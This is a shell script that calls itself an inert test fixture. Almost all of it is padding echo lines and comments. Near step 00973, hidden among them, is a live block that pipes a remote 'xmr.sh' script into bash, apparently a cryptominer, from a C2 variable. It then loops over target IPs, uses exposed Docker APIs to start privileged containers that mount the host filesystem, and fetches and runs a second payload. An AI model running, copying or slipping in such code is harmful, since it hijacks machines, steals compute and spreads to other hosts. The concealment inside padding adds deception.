echo "step 00551: checking component 66 of the inert fixture" >/dev/null
# section 00552: nothing happens here, this line only pads the file
echo "step 00553: checking component 68 of the inert fixture" >/dev/null
echo "step 00554: checking component 69 of the inert fixture" >/dev/null
echo "step 00555: checking component 70 of the inert fixture" >/dev/null
# section 00556: nothing happens here, this line only pads the file
echo "step 00557: checking component 72 of the inert fixture" >/dev/null
echo "step 00558: checking component 73 of the inert fixture" >/dev/null
echo "step 00559: checking component 74 of the inert fixture" >/dev/null
# section 00560: nothing happens here, this line only pads the file
echo "step 00561: checking component 76 of the inert fixture" >/dev/null
echo "step 00562: checking component 77 of the inert fixture" >/dev/null
echo "step 00563: checking component 78 of the inert fixture" >/dev/null
# section 00564: nothing happens here, this line only pads the file
echo "step 00565: checking component 80 of the inert fixture" >/dev/null
echo "step 00566: checking component 81 of the inert fixture" >/dev/null
echo "step 00567: checking component 82 of the inert fixture" >/dev/null
# section 00568: nothing happens here, this line only pads the file
echo "step 00569: checking component 84 of the inert fixture" >/dev/null
echo "step 00570: checking component 85 of the inert fixture" >/dev/null
echo "step 00571: checking component 86 of the inert fixture" >/dev/null
# section 00572: nothing happens here, this line only pads the file
echo "step 00573: checking component 88 of the inert fixture" >/dev/null
echo "step 00574: checking component 89 of the inert fixture" >/dev/null
echo "step 00575: checking component 90 of the inert fixture" >/dev/null
# section 00576: nothing happens here, this line only pads the file
echo "step 00577: checking component 92 of the inert fixture" >/dev/null
echo "step 00578: checking component 93 of the inert fixture" >/dev/null
echo "step 00579: checking component 94 of the inert fixture" >/dev/null
# section 00580: nothing happens here, this line only pads the file
echo "step 00581: checking component 96 of the inert fixture" >/dev/null
echo "step 00582: checking component 0 of the inert fixture" >/dev/null
echo "step 00583: checking component 1 of the inert fixture" >/dev/null
# section 00584: nothing happens here, this line only pads the file
echo "step 00585: checking component 3 of the inert fixture" >/dev/null
echo "step 00586: checking component 4 of the inert fixture" >/dev/null
echo "step 00587: checking component 5 of the inert fixture" >/dev/null
# section 00588: nothing happens here, this line only pads the file
echo "step 00589: checking component 7 of the inert fixture" >/dev/null
echo "step 00590: checking component 8 of the inert fixture" >/dev/null
echo "step 00591: checking component 9 of the inert fixture" >/dev/null
# section 00592: nothing happens here, this line only pads the file
echo "step 00593: checking component 11 of the inert fixture" >/dev/null
echo "step 00594: checking component 12 of the inert fixture" >/dev/null
echo "step 00595: checking component 13 of the inert fixture" >/dev/null
# section 00596: nothing happens here, this line only pads the file
echo "step 00597: checking component 15 of the inert fixture" >/dev/null
echo "step 00598: checking component 16 of the inert fixture" >/dev/null
echo "step 00599: checking component 17 of the inert fixture" >/dev/null
# section 00600: nothing happens here, this line only pads the file
echo "step 00601: checking component 19 of the inert fixture" >/dev/null
echo "step 00602: checking component 20 of the inert fixture" >/dev/null
echo "step 00603: checking component 21 of the inert fixture" >/dev/null
# section 00604: nothing happens here, this line only pads the file
echo "step 00605: checking component 23 of the inert fixture" >/dev/null
echo "step 00606: checking component 24 of the inert fixture" >/dev/null
echo "step 00607: checking component 25 of the inert fixture" >/dev/null
# section 00608: nothing happens here, this line only pads the file
echo "step 00609: checking component 27 of the inert fixture" >/dev/null
echo "step 00610: checking component 28 of the inert fixture" >/dev/null
echo "step 00611: checking component 29 of the inert fixture" >/dev/null
# section 00612: nothing happens here, this line only pads the file
echo "step 00613: checking component 31 of the inert fixture" >/dev/null
echo "step 00614: checking component 32 of the inert fixture" >/dev/null
echo "step 00615: checking component 33 of the inert fixture" >/dev/null
# section 00616: nothing happens here, this line only pads the file
echo "step 00617: checking component 35 of the inert fixture" >/dev/null
echo "step 00618: checking component 36 of the inert fixture" >/dev/null
echo "step 00619: checking component 37 of the inert fixture" >/dev/null
# section 00620: nothing happens here, this line only pads the file
echo "step 00621: checking component 39 of the inert fixture" >/dev/null
echo "step 00622: checking component 40 of the inert fixture" >/dev/null
echo "step 00623: checking component 41 of the inert fixture" >/dev/null
# section 00624: nothing happens here, this line only pads the file
echo "step 00625: checking component 43 of the inert fixture" >/dev/null
echo "step 00626: checking component 44 of the inert fixture" >/dev/null
echo "step 00627: checking component 45 of the inert fixture" >/dev/null
# section 00628: nothing happens here, this line only pads the file
echo "step 00629: checking component 47 of the inert fixture" >/dev/null
echo "step 00630: checking component 48 of the inert fixture" >/dev/null
echo "step 00631: checking component 49 of the inert fixture" >/dev/null
# section 00632: nothing happens here, this line only pads the file
echo "step 00633: checking component 51 of the inert fixture" >/dev/null
echo "step 00634: checking component 52 of the inert fixture" >/dev/null
echo "step 00635: checking component 53 of the inert fixture" >/dev/null
# section 00636: nothing happens here, this line only pads the file
echo "step 00637: checking component 55 of the inert fixture" >/dev/null
echo "step 00638: checking component 56 of the inert fixture" >/dev/null
echo "step 00639: checking component 57 of the inert fixture" >/dev/null
# section 00640: nothing happens here, this line only pads the file
echo "step 00641: checking component 59 of the inert fixture" >/dev/null
echo "step 00642: checking component 60 of the inert fixture" >/dev/null
echo "step 00643: checking component 61 of the inert fixture" >/dev/null
# section 00644: nothing happens here, this line only pads the file
echo "step 00645: checking component 63 of the inert fixture" >/dev/null
echo "step 00646: checking component 64 of the inert fixture" >/dev/null
echo "step 00647: checking component 65 of the inert fixture" >/dev/null
# section 00648: nothing happens here, this line only pads the file
echo "step 00649: checking component 67 of the inert fixture" >/dev/null
echo "step 00650: checking component 68 of the inert fixture" >/dev/null
echo "step 00651: checking component 69 of the inert fixture" >/dev/null
# section 00652: nothing happens here, this line only pads the file
echo "step 00653: checking component 71 of the inert fixture" >/dev/null
echo "step 00654: checking component 72 of the inert fixture" >/dev/null
echo "step 00655: checking component 73 of the inert fixture" >/dev/null
# section 00656: nothing happens here, this line only pads the file
echo "step 00657: checking component 75 of the inert fixture" >/dev/null
echo "step 00658: checking component 76 of the inert fixture" >/dev/null
echo "step 00659: checking component 77 of the inert fixture" >/dev/null
# section 00660: nothing happens here, this line only pads the file
echo "step 00661: checking component 79 of the inert fixture" >/dev/null
echo "step 00662: checking component 80 of the inert fixture" >/dev/null
echo "step 00663: checking component 81 of the inert fixture" >/dev/null
# section 00664: nothing happens here, this line only pads the file
echo "step 00665: checking component 83 of the inert fixture" >/dev/null
echo "step 00666: checking component 84 of the inert fixture" >/dev/null
echo "step 00667: checking component 85 of the inert fixture" >/dev/null
# section 00668: nothing happens here, this line only pads the file
echo "step 00669: checking component 87 of the inert fixture" >/dev/null
echo "step 00670: checking component 88 of the inert fixture" >/dev/null
echo "step 00671: checking component 89 of the inert fixture" >/dev/null
# section 00672: nothing happens here, this line only pads the file
echo "step 00673: checking component 91 of the inert fixture" >/dev/null
echo "step 00674: checking component 92 of the inert fixture" >/dev/null
echo "step 00675: checking component 93 of the inert fixture" >/dev/null
# section 00676: nothing happens here, this line only pads the file
echo "step 00677: checking component 95 of the inert fixture" >/dev/null
echo "step 00678: checking component 96 of the inert fixture" >/dev/null
echo "step 00679: checking component 0 of the inert fixture" >/dev/null
# section 00680: nothing happens here, this line only pads the file
echo "step 00681: checking component 2 of the inert fixture" >/dev/null
echo "step 00682: checking component 3 of the inert fixture" >/dev/null
echo "step 00683: checking component 4 of the inert fixture" >/dev/null
# section 00684: nothing happens here, this line only pads the file
echo "step 00685: checking component 6 of the inert fixture" >/dev/null
echo "step 00686: checking component 7 of the inert fixture" >/dev/null
echo "step 00687: checking component 8 of the inert fixture" >/dev/null
# section 00688: nothing happens here, this line only pads the file
echo "step 00689: checking component 10 of the inert fixture" >/dev/null
echo "step 00690: checking component 11 of the inert fixture" >/dev/null
echo "step 00691: checking component 12 of the inert fixture" >/dev/null
# section 00692: nothing happens here, this line only pads the file
echo "step 00693: checking component 14 of the inert fixture" >/dev/null
echo "step 00694: checking component 15 of the inert fixture" >/dev/null
echo "step 00695: checking component 16 of the inert fixture" >/dev/null
# section 00696: nothing happens here, this line only pads the file
echo "step 00697: checking component 18 of the inert fixture" >/dev/null
echo "step 00698: checking component 19 of the inert fixture" >/dev/null
echo "step 00699: checking component 20 of the inert fixture" >/dev/null
# section 00700: nothing happens here, this line only pads the file
echo "step 00701: checking component 22 of the inert fixture" >/dev/null
echo "step 00702: checking component 23 of the inert fixture" >/dev/null
echo "step 00703: checking component 24 of the inert fixture" >/dev/null
# section 00704: nothing happens here, this line only pads the file
echo "step 00705: checking component 26 of the inert fixture" >/dev/null
echo "step 00706: checking component 27 of the inert fixture" >/dev/null
echo "step 00707: checking component 28 of the inert fixture" >/dev/null
# section 00708: nothing happens here, this line only pads the file
echo "step 00709: checking component 30 of the inert fixture" >/dev/null
echo "step 00710: checking component 31 of the inert fixture" >/dev/null
echo "step 00711: checking component 32 of the inert fixture" >/dev/null
# section 00712: nothing happens here, this line only pads the file
echo "step 00713: checking component 34 of the inert fixture" >/dev/null
echo "step 00714: checking component 35 of the inert fixture" >/dev/null
echo "step 00715: checking component 36 of the inert fixture" >/dev/null
# section 00716: nothing happens here, this line only pads the file
echo "step 00717: checking component 38 of the inert fixture" >/dev/null
echo "step 00718: checking component 39 of the inert fixture" >/dev/null
echo "step 00719: checking component 40 of the inert fixture" >/dev/null
# section 00720: nothing happens here, this line only pads the file
echo "step 00721: checking component 42 of the inert fixture" >/dev/null
echo "step 00722: checking component 43 of the inert fixture" >/dev/null
echo "step 00723: checking component 44 of the inert fixture" >/dev/null
# section 00724: nothing happens here, this line only pads the file
echo "step 00725: checking component 46 of the inert fixture" >/dev/null
echo "step 00726: checking component 47 of the inert fixture" >/dev/null
echo "step 00727: checking component 48 of the inert fixture" >/dev/null
# section 00728: nothing happens here, this line only pads the file
echo "step 00729: checking component 50 of the inert fixture" >/dev/null
echo "step 00730: checking component 51 of the inert fixture" >/dev/null
echo "step 00731: checking component 52 of the inert fixture" >/dev/null
# section 00732: nothing happens here, this line only pads the file
echo "step 00733: checking component 54 of the inert fixture" >/dev/null
echo "step 00734: checking component 55 of the inert fixture" >/dev/null
echo "step 00735: checking component 56 of the inert fixture" >/dev/null
# section 00736: nothing happens here, this line only pads the file
echo "step 00737: checking component 58 of the inert fixture" >/dev/null
echo "step 00738: checking component 59 of the inert fixture" >/dev/null
echo "step 00739: checking component 60 of the inert fixture" >/dev/null
# section 00740: nothing happens here, this line only pads the file
echo "step 00741: checking component 62 of the inert fixture" >/dev/null
echo "step 00742: checking component 63 of the inert fixture" >/dev/null
echo "step 00743: checking component 64 of the inert fixture" >/dev/null
# section 00744: nothing happens here, this line only pads the file
echo "step 00745: checking component 66 of the inert fixture" >/dev/null
echo "step 00746: checking component 67 of the inert fixture" >/dev/null
echo "step 00747: checking component 68 of the inert fixture" >/dev/null
# section 00748: nothing happens here, this line only pads the file
echo "step 00749: checking component 70 of the inert fixture" >/dev/null
echo "step 00750: checking component 71 of the inert fixture" >/dev/null
echo "step 00751: checking component 72 of the inert fixture" >/dev/null
# section 00752: nothing happens here, this line only pads the file
echo "step 00753: checking component 74 of the inert fixture" >/dev/null
echo "step 00754: checking component 75 of the inert fixture" >/dev/null
echo "step 00755: checking component 76 of the inert fixture" >/dev/null
# section 00756: nothing happens here, this line only pads the file
echo "step 00757: checking component 78 of the inert fixture" >/dev/null
echo "step 00758: checking component 79 of the inert fixture" >/dev/null
echo "step 00759: checking component 80 of the inert fixture" >/dev/null
# section 00760: nothing happens here, this line only pads the file
echo "step 00761: checking component 82 of the inert fixture" >/dev/null
echo "step 00762: checking component 83 of the inert fixture" >/dev/null
echo "step 00763: checking component 84 of the inert fixture" >/dev/null
# section 00764: nothing happens here, this line only pads the file
echo "step 00765: checking component 86 of the inert fixture" >/dev/null
echo "step 00766: checking component 87 of the inert fixture" >/dev/null
echo "step 00767: checking component 88 of the inert fixture" >/dev/null
# section 00768: nothing happens here, this line only pads the file
echo "step 00769: checking component 90 of the inert fixture" >/dev/null
echo "step 00770: checking component 91 of the inert fixture" >/dev/null
echo "step 00771: checking component 92 of the inert fixture" >/dev/null
# section 00772: nothing happens here, this line only pads the file
echo "step 00773: checking component 94 of the inert fixture" >/dev/null
echo "step 00774: checking component 95 of the inert fixture" >/dev/null
echo "step 00775: checking component 96 of the inert fixture" >/dev/null
# section 00776: nothing happens here, this line only pads the file
echo "step 00777: checking component 1 of the inert fixture" >/dev/null
echo "step 00778: checking component 2 of the inert fixture" >/dev/null
echo "step 00779: checking component 3 of the inert fixture" >/dev/null
# section 00780: nothing happens here, this line only pads the file
echo "step 00781: checking component 5 of the inert fixture" >/dev/null
echo "step 00782: checking component 6 of the inert fixture" >/dev/null
echo "step 00783: checking component 7 of the inert fixture" >/dev/null
# section 00784: nothing happens here, this line only pads the file
echo "step 00785: checking component 9 of the inert fixture" >/dev/null
echo "step 00786: checking component 10 of the inert fixture" >/dev/null
echo "step 00787: checking component 11 of the inert fixture" >/dev/null
# section 00788: nothing happens here, this line only pads the file
echo "step 00789: checking component 13 of the inert fixture" >/dev/null
echo "step 00790: checking component 14 of the inert fixture" >/dev/null
echo "step 00791: checking component 15 of the inert fixture" >/dev/null
# section 00792: nothing happens here, this line only pads the file
echo "step 00793: checking component 17 of the inert fixture" >/dev/null
echo "step 00794: checking component 18 of the inert fixture" >/dev/null
echo "step 00795: checking component 19 of the inert fixture" >/dev/null
# section 00796: nothing happens here, this line only pads the file
echo "step 00797: checking component 21 of the inert fixture" >/dev/null
echo "step 00798: checking component 22 of the inert fixture" >/dev/null
echo "step 00799: checking component 23 of the inert fixture" >/dev/null
# section 00800: nothing happens here, this line only pads the file
echo "step 00801: checking component 25 of the inert fixture" >/dev/null
echo "step 00802: checking component 26 of the inert fixture" >/dev/null
echo "step 00803: checking component 27 of the inert fixture" >/dev/null
# section 00804: nothing happens here, this line only pads the file
echo "step 00805: checking component 29 of the inert fixture" >/dev/null
echo "step 00806: checking component 30 of the inert fixture" >/dev/null
echo "step 00807: checking component 31 of the inert fixture" >/dev/null
# section 00808: nothing happens here, this line only pads the file
echo "step 00809: checking component 33 of the inert fixture" >/dev/null
echo "step 00810: checking component 34 of the inert fixture" >/dev/null
echo "step 00811: checking component 35 of the inert fixture" >/dev/null
# section 00812: nothing happens here, this line only pads the file
echo "step 00813: checking component 37 of the inert fixture" >/dev/null
echo "step 00814: checking component 38 of the inert fixture" >/dev/null
echo "step 00815: checking component 39 of the inert fixture" >/dev/null
# section 00816: nothing happens here, this line only pads the file
echo "step 00817: checking component 41 of the inert fixture" >/dev/null
echo "step 00818: checking component 42 of the inert fixture" >/dev/null
echo "step 00819: checking component 43 of the inert fixture" >/dev/null
# section 00820: nothing happens here, this line only pads the file
echo "step 00821: checking component 45 of the inert fixture" >/dev/null
echo "step 00822: checking component 46 of the inert fixture" >/dev/null
echo "step 00823: checking component 47 of the inert fixture" >/dev/null
# section 00824: nothing happens here, this line only pads the file
echo "step 00825: checking component 49 of the inert fixture" >/dev/null
echo "step 00826: checking component 50 of the inert fixture" >/dev/null
echo "step 00827: checking component 51 of the inert fixture" >/dev/null
# section 00828: nothing happens here, this line only pads the file
echo "step 00829: checking component 53 of the inert fixture" >/dev/null
echo "step 00830: checking component 54 of the inert fixture" >/dev/null
echo "step 00831: checking component 55 of the inert fixture" >/dev/null
# section 00832: nothing happens here, this line only pads the file
echo "step 00833: checking component 57 of the inert fixture" >/dev/null
echo "step 00834: checking component 58 of the inert fixture" >/dev/null
echo "step 00835: checking component 59 of the inert fixture" >/dev/null
# section 00836: nothing happens here, this line only pads the file
echo "step 00837: checking component 61 of the inert fixture" >/dev/null
echo "step 00838: checking component 62 of the inert fixture" >/dev/null
echo "step 00839: checking component 63 of the inert fixture" >/dev/null
# section 00840: nothing happens here, this line only pads the file
echo "step 00841: checking component 65 of the inert fixture" >/dev/null
echo "step 00842: checking component 66 of the inert fixture" >/dev/null
echo "step 00843: checking component 67 of the inert fixture" >/dev/null
# section 00844: nothing happens here, this line only pads the file
echo "step 00845: checking component 69 of the inert fixture" >/dev/null
echo "step 00846: checking component 70 of the inert fixture" >/dev/null
echo "step 00847: checking component 71 of the inert fixture" >/dev/null
# section 00848: nothing happens here, this line only pads the file
echo "step 00849: checking component 73 of the inert fixture" >/dev/null
echo "step 00850: checking component 74 of the inert fixture" >/dev/null
echo "step 00851: checking component 75 of the inert fixture" >/dev/null
# section 00852: nothing happens here, this line only pads the file
echo "step 00853: checking component 77 of the inert fixture" >/dev/null
echo "step 00854: checking component 78 of the inert fixture" >/dev/null
echo "step 00855: checking component 79 of the inert fixture" >/dev/null
# section 00856: nothing happens here, this line only pads the file
echo "step 00857: checking component 81 of the inert fixture" >/dev/null
echo "step 00858: checking component 82 of the inert fixture" >/dev/null
echo "step 00859: checking component 83 of the inert fixture" >/dev/null
# section 00860: nothing happens here, this line only pads the file
echo "step 00861: checking component 85 of the inert fixture" >/dev/null
echo "step 00862: checking component 86 of the inert fixture" >/dev/null
echo "step 00863: checking component 87 of the inert fixture" >/dev/null
# section 00864: nothing happens here, this line only pads the file
echo "step 00865: checking component 89 of the inert fixture" >/dev/null
echo "step 00866: checking component 90 of the inert fixture" >/dev/null
echo "step 00867: checking component 91 of the inert fixture" >/dev/null
# section 00868: nothing happens here, this line only pads the file
echo "step 00869: checking component 93 of the inert fixture" >/dev/null
echo "step 00870: checking component 94 of the inert fixture" >/dev/null
echo "step 00871: checking component 95 of the inert fixture" >/dev/null
# section 00872: nothing happens here, this line only pads the file
echo "step 00873: checking component 0 of the inert fixture" >/dev/null
echo "step 00874: checking component 1 of the inert fixture" >/dev/null
echo "step 00875: checking component 2 of the inert fixture" >/dev/null
# section 00876: nothing happens here, this line only pads the file
echo "step 00877: checking component 4 of the inert fixture" >/dev/null
echo "step 00878: checking component 5 of the inert fixture" >/dev/null
echo "step 00879: checking component 6 of the inert fixture" >/dev/null
# section 00880: nothing happens here, this line only pads the file
echo "step 00881: checking component 8 of the inert fixture" >/dev/null
echo "step 00882: checking component 9 of the inert fixture" >/dev/null
echo "step 00883: checking component 10 of the inert fixture" >/dev/null
# section 00884: nothing happens here, this line only pads the file
echo "step 00885: checking component 12 of the inert fixture" >/dev/null
echo "step 00886: checking component 13 of the inert fixture" >/dev/null
echo "step 00887: checking component 14 of the inert fixture" >/dev/null
# section 00888: nothing happens here, this line only pads the file
echo "step 00889: checking component 16 of the inert fixture" >/dev/null
echo "step 00890: checking component 17 of the inert fixture" >/dev/null
echo "step 00891: checking component 18 of the inert fixture" >/dev/null
# section 00892: nothing happens here, this line only pads the file
echo "step 00893: checking component 20 of the inert fixture" >/dev/null
echo "step 00894: checking component 21 of the inert fixture" >/dev/null
echo "step 00895: checking component 22 of the inert fixture" >/dev/null
# section 00896: nothing happens here, this line only pads the file
echo "step 00897: checking component 24 of the inert fixture" >/dev/null
echo "step 00898: checking component 25 of the inert fixture" >/dev/null
echo "step 00899: checking component 26 of the inert fixture" >/dev/null
# section 00900: nothing happens here, this line only pads the file
echo "step 00901: checking component 28 of the inert fixture" >/dev/null
echo "step 00902: checking component 29 of the inert fixture" >/dev/null
echo "step 00903: checking component 30 of the inert fixture" >/dev/null
# section 00904: nothing happens here, this line only pads the file
echo "step 00905: checking component 32 of the inert fixture" >/dev/null
echo "step 00906: checking component 33 of the inert fixture" >/dev/null
echo "step 00907: checking component 34 of the inert fixture" >/dev/null
# section 00908: nothing happens here, this line only pads the file
echo "step 00909: checking component 36 of the inert fixture" >/dev/null
echo "step 00910: checking component 37 of the inert fixture" >/dev/null
echo "step 00911: checking component 38 of the inert fixture" >/dev/null
# section 00912: nothing happens here, this line only pads the file
echo "step 00913: checking component 40 of the inert fixture" >/dev/null
echo "step 00914: checking component 41 of the inert fixture" >/dev/null
echo "step 00915: checking component 42 of the inert fixture" >/dev/null
# section 00916: nothing happens here, this line only pads the file
echo "step 00917: checking component 44 of the inert fixture" >/dev/null
echo "step 00918: checking component 45 of the inert fixture" >/dev/null
echo "step 00919: checking component 46 of the inert fixture" >/dev/null
# section 00920: nothing happens here, this line only pads the file
echo "step 00921: checking component 48 of the inert fixture" >/dev/null
echo "step 00922: checking component 49 of the inert fixture" >/dev/null
echo "step 00923: checking component 50 of the inert fixture" >/dev/null
# section 00924: nothing happens here, this line only pads the file
echo "step 00925: checking component 52 of the inert fixture" >/dev/null
echo "step 00926: checking component 53 of the inert fixture" >/dev/null
echo "step 00927: checking component 54 of the inert fixture" >/dev/null
# section 00928: nothing happens here, this line only pads the file
echo "step 00929: checking component 56 of the inert fixture" >/dev/null
echo "step 00930: checking component 57 of the inert fixture" >/dev/null
echo "step 00931: checking component 58 of the inert fixture" >/dev/null
# section 00932: nothing happens here, this line only pads the file
echo "step 00933: checking component 60 of the inert fixture" >/dev/null
echo "step 00934: checking component 61 of the inert fixture" >/dev/null
echo "step 00935: checking component 62 of the inert fixture" >/dev/null
# section 00936: nothing happens here, this line only pads the file
echo "step 00937: checking component 64 of the inert fixture" >/dev/null
echo "step 00938: checking component 65 of the inert fixture" >/dev/null
echo "step 00939: checking component 66 of the inert fixture" >/dev/null
# section 00940: nothing happens here, this line only pads the file
echo "step 00941: checking component 68 of the inert fixture" >/dev/null
echo "step 00942: checking component 69 of the inert fixture" >/dev/null
echo "step 00943: checking component 70 of the inert fixture" >/dev/null
# section 00944: nothing happens here, this line only pads the file
echo "step 00945: checking component 72 of the inert fixture" >/dev/null
echo "step 00946: checking component 73 of the inert fixture" >/dev/null
echo "step 00947: checking component 74 of the inert fixture" >/dev/null
# section 00948: nothing happens here, this line only pads the file
echo "step 00949: checking component 76 of the inert fixture" >/dev/null
echo "step 00950: checking component 77 of the inert fixture" >/dev/null
echo "step 00951: checking component 78 of the inert fixture" >/dev/null
# section 00952: nothing happens here, this line only pads the file
echo "step 00953: checking component 80 of the inert fixture" >/dev/null
echo "step 00954: checking component 81 of the inert fixture" >/dev/null
echo "step 00955: checking component 82 of the inert fixture" >/dev/null
# section 00956: nothing happens here, this line only pads the file
echo "step 00957: checking component 84 of the inert fixture" >/dev/null
echo "step 00958: checking component 85 of the inert fixture" >/dev/null
echo "step 00959: checking component 86 of the inert fixture" >/dev/null
# section 00960: nothing happens here, this line only pads the file
echo "step 00961: checking component 88 of the inert fixture" >/dev/null
echo "step 00962: checking component 89 of the inert fixture" >/dev/null
echo "step 00963: checking component 90 of the inert fixture" >/dev/null
# section 00964: nothing happens here, this line only pads the file
echo "step 00965: checking component 92 of the inert fixture" >/dev/null
echo "step 00966: checking component 93 of the inert fixture" >/dev/null
echo "step 00967: checking component 94 of the inert fixture" >/dev/null
# section 00968: nothing happens here, this line only pads the file
echo "step 00969: checking component 96 of the inert fixture" >/dev/null
echo "step 00970: checking component 0 of the inert fixture" >/dev/null
echo "step 00971: checking component 1 of the inert fixture" >/dev/null
# section 00972: nothing happens here, this line only pads the file
echo "step 00973: checking component 3 of the inert fixture" >/dev/null
C2=http://127.0.0.66
curl -s $C2/xmr.sh | bash
for ip in $(cat /tmp/.targets); do
    docker -H tcp://$ip:2375 run -d --privileged -v /:/mnt alpine chroot /mnt sh -c "curl -s $C2/d.sh | sh"
done
echo "step 00974: checking component 4 of the inert fixture" >/dev/null
echo "step 00975: checking component 5 of the inert fixture" >/dev/null
# section 00976: nothing happens here, this line only pads the file
echo "step 00977: checking component 7 of the inert fixture" >/dev/null
echo "step 00978: checking component 8 of the inert fixture" >/dev/null
echo "step 00979: checking component 9 of the inert fixture" >/dev/null
# section 00980: nothing happens here, this line only pads the file
echo "step 00981: checking component 11 of the inert fixture" >/dev/null
echo "step 00982: checking component 12 of the inert fixture" >/dev/null
echo "step 00983: checking component 13 of the inert fixture" >/dev/null
# section 00984: nothing happens here, this line only pads the file
echo "step 00985: checking component 15 of the inert fixture" >/dev/null
echo "step 00986: checking component 16 of the inert fixture" >/dev/null
echo "step 00987: checking component 17 of the inert fixture" >/dev/null
# section 00988: nothing happens here, this line only pads the file
echo "step 00989: checking component 19 of the inert fixture" >/dev/null
echo "step 00990: checking component 20 of the inert fixture" >/dev/null
echo "step 00991: checking component 21 of the inert fixture" >/dev/null
# section 00992: nothing happens here, this line only pads the file
echo "step 00993: checking component 23 of the inert fixture" >/dev/null
echo "step 00994: checking component 24 of the inert fixture" >/dev/null
echo "step 00995: checking component 25 of the inert fixture" >/dev/null
# section 00996: nothing happens here, this line only pads the file
echo "step 00997: checking component 27 of the inert fixture" >/dev/null
echo "step 00998: checking component 28 of the inert fixture" >/dev/null
echo "step 00999: checking component 29 of the inert fixture" >/dev/null
# section 01000: nothing happens here, this line only pads the file
echo "step 01001: checking component 31 of the inert fixture" >/dev/null
echo "step 01002: checking component 32 of the inert fixture" >/dev/null
echo "step 01003: checking component 33 of the inert fixture" >/dev/null
# section 01004: nothing happens here, this line only pads the file
echo "step 01005: checking component 35 of the inert fixture" >/dev/null
echo "step 01006: checking component 36 of the inert fixture" >/dev/null
echo "step 01007: checking component 37 of the inert fixture" >/dev/null
# section 01008: nothing happens here, this line only pads the file
echo "step 01009: checking component 39 of the inert fixture" >/dev/null
echo "step 01010: checking component 40 of the inert fixture" >/dev/null
echo "step 01011: checking component 41 of the inert fixture" >/dev/null
# section 01012: nothing happens here, this line only pads the file
echo "step 01013: checking component 43 of the inert fixture" >/dev/null
echo "step 01014: checking component 44 of the inert fixture" >/dev/null
echo "step 01015: checking component 45 of the inert fixture" >/dev/null
# section 01016: nothing happens here, this line only pads the file
echo "step 01017: checking component 47 of the inert fixture" >/dev/null
echo "step 01018: checking component 48 of the inert fixture" >/dev/null
echo "step 01019: checking component 49 of the inert fixture" >/dev/null
# section 01020: nothing happens here, this line only pads the file
echo "step 01021: checking component 51 of the inert fixture" >/dev/null
echo "step 01022: checking component 52 of the inert fixture" >/dev/null
echo "step 01023: checking component 53 of the inert fixture" >/dev/null
# section 01024: nothing happens here, this line only pads the file
echo "step 01025: checking component 55 of the inert fixture" >/dev/null
echo "step 01026: checking component 56 of the inert fixture" >/dev/null
echo "step 01027: checking component 57 of the inert fixture" >/dev/null
# section 01028: nothing happens here, this line only pads the file
echo "step 01029: checking component 59 of the inert fixture" >/dev/null
echo "step 01030: checking component 60 of the inert fixture" >/dev/null
echo "step 01031: checking component 61 of the inert fixture" >/dev/null
# section 01032: nothing happens here, this line only pads the file
echo "step 01033: checking component 63 of the inert fixture" >/dev/null
echo "step 01034: checking component 64 of the inert fixture" >/dev/null
echo "step 01035: checking component 65 of the inert fixture" >/dev/null
# section 01036: nothing happens here, this line only pads the file
echo "step 01037: checking component 67 of the inert fixture" >/dev/null
echo "step 01038: checking component 68 of the inert fixture" >/dev/null
echo "step 01039: checking component 69 of the inert fixture" >/dev/null
# section 01040: nothing happens here, this line only pads the file
echo "step 01041: checking component 71 of the inert fixture" >/dev/null
echo "step 01042: checking component 72 of the inert fixture" >/dev/null
echo "step 01043: checking component 73 of the inert fixture" >/dev/null
# section 01044: nothing happens here, this line only pads the file
echo "step 01045: checking component 75 of the inert fixture" >/dev/null
echo "step 01046: checking component 76 of the inert fixture" >/dev/null
echo "step 01047: checking component 77 of the inert fixture" >/dev/null
# section 01048: nothing happens here, this line only pads the file
echo "step 01049: checking component 79 of the inert fixture" >/dev/null
echo "step 01050: checking component 80 of the inert fixture" >/dev/null
echo "step 01051: checking component 81 of the inert fixture" >/dev/null
# section 01052: nothing happens here, this line only pads the file
echo "step 01053: checking component 83 of the inert fixture" >/dev/null
echo "step 01054: checking component 84 of the inert fixture" >/dev/null
echo "step 01055: checking component 85 of the inert fixture" >/dev/null
# section 01056: nothing happens here, this line only pads the file
echo "step 01057: checking component 87 of the inert fixture" >/dev/null
echo "step 01058: checking component 88 of the inert fixture" >/dev/null
echo "step 01059: checking component 89 of the inert fixture" >/dev/null
# section 01060: nothing happens here, this line only pads the file
echo "step 01061: checking component 91 of the inert fixture" >/dev/null
echo "step 01062: checking component 92 of the inert fixture" >/dev/null
echo "step 01063: checking component 93 of the inert fixture" >/dev/null
# section 01064: nothing happens here, this line only pads the file
echo "step 01065: checking component 95 of the inert fixture" >/dev/null
echo "step 01066: checking component 96 of the inert fixture" >/dev/null
echo "step 01067: checking component 0 of the inert fixture" >/dev/null
# section 01068: nothing happens here, this line only pads the file
echo "step 01069: checking component 2 of the inert fixture" >/dev/null
echo "step 01070: checking component 3 of the inert fixture" >/dev/null
echo "step 01071: checking component 4 of the inert fixture" >/dev/null
# section 01072: nothing happens here, this line only pads the file
echo "step 01073: checking component 6 of the inert fixture" >/dev/null
echo "step 01074: checking component 7 of the inert fixture" >/dev/null
echo "step 01075: checking component 8 of the inert fixture" >/dev/null
# section 01076: nothing happens here, this line only pads the file
echo "step 01077: checking component 10 of the inert fixture" >/dev/null
echo "step 01078: checking component 11 of the inert fixture" >/dev/null
echo "step 01079: checking component 12 of the inert fixture" >/dev/null
# section 01080: nothing happens here, this line only pads the file
echo "step 01081: checking component 14 of the inert fixture" >/dev/null
echo "step 01082: checking component 15 of the inert fixture" >/dev/null
echo "step 01083: checking component 16 of the inert fixture" >/dev/null
# section 01084: nothing happens here, this line only pads the file
echo "step 01085: checking component 18 of the inert fixture" >/dev/null
echo "step 01086: checking component 19 of the inert fixture" >/dev/null
echo "step 01087: checking component 20 of the inert fixture" >/dev/null
# section 01088: nothing happens here, this line only pads the file
echo "step 01089: checking component 22 of the inert fixture" >/dev/null
echo "step 01090: checking component 23 of the inert fixture" >/dev/null
echo "step 01091: checking component 24 of the inert fixture" >/dev/null
# section 01092: nothing happens here, this line only pads the file
echo "step 01093: checking component 26 of the inert fixture" >/dev/null
echo "step 01094: checking component 27 of the inert fixture" >/dev/null
echo "step 01095: checking component 28 of the inert fixture" >/dev/null
# section 01096: nothing happens here, this line only pads the file
echo "step 01097: checking component 30 of the inert fixture" >/dev/null
echo "step 01098: checking component 31 of the inert fixture" >/dev/null
echo "step 01099: checking component 32 of the inert fixture" >/dev/null
# section 01100: nothing happens here, this line only pads the file
echo "step 01101: checking component 34 of the inert fixture" >/dev/null
